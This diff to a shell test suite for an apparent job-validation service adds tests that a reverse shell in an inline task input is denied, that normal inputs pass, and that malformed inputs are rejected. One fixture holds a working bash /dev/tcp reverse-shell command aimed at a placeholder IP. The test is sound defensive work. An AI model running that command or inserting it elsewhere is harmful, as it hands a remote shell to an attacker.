@@ -92,6 +92,23 @@ req POST "$V" "$T/revshell.json"
 code_is "validate: clean image, reverse shell in the command" 200
 jq_true "revshell: denied on the command line itself (suspicious-tool without a path)" '.allowed == false and .executors[0].verdict == "deny" and ([.executors[0].findings[] | select(.check == "suspicious-tool" and .path == null and .rule == "revshell_bash_dev_tcp")] | length == 1)'
 
+# --- an inline input (inputs[].content) the command runs: the script is
+# in the task, not in the image nor in the command
+jq '.inputs += [{"name": "job", "path": "/data/job.sh", "type": "FILE", "content": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n"}] | .executors[0].command = ["/app/run", "/data/job.sh"]' "$T/clean1.json" >"$T/inline.json"
+req POST "$V" "$T/inline.json"
+code_is "validate: clean image, an inline input with a reverse shell" 200
+jq_true "inline input: denied (suspicious-tool without a path)" '.allowed == false and ([.executors[0].findings[] | select(.check == "suspicious-tool" and .path == null and .rule == "revshell_bash_dev_tcp")] | length == 1)'
+jq '.inputs += [{"name": "cfg", "path": "/data/cfg.txt", "type": "FILE", "content": "threads=4\n"}]' "$T/clean1.json" >"$T/inline-ok.json"
+req POST "$V" "$T/inline-ok.json"
+code_is "validate: clean image, an ordinary inline input" 200
+jq_true "ordinary inline input: allowed" '.allowed == true'
+jq '.inputs = [{"name": "x", "path": "/data/x", "Content": "x"}]' "$T/clean1.json" >"$T/inline-case.json"
+req POST "$V" "$T/inline-case.json"
+code_is "validate: inputs[0].\"Content\": refused as ambiguous" 400
+jq '.inputs = [{"name": "x", "path": "/data/x", "content": 5}]' "$T/clean1.json" >"$T/inline-type.json"
+req POST "$V" "$T/inline-type.json"
+code_is "validate: inputs[0].content not a string" 400
+
 # --- several executors, mixed verdicts
 fill_task "$TREQ/several-executors.json" "$T/several.json" "$CLEAN" "$R/app/clean@$CLEAN_DIGEST"
 req POST "$V" "$T/several.json"
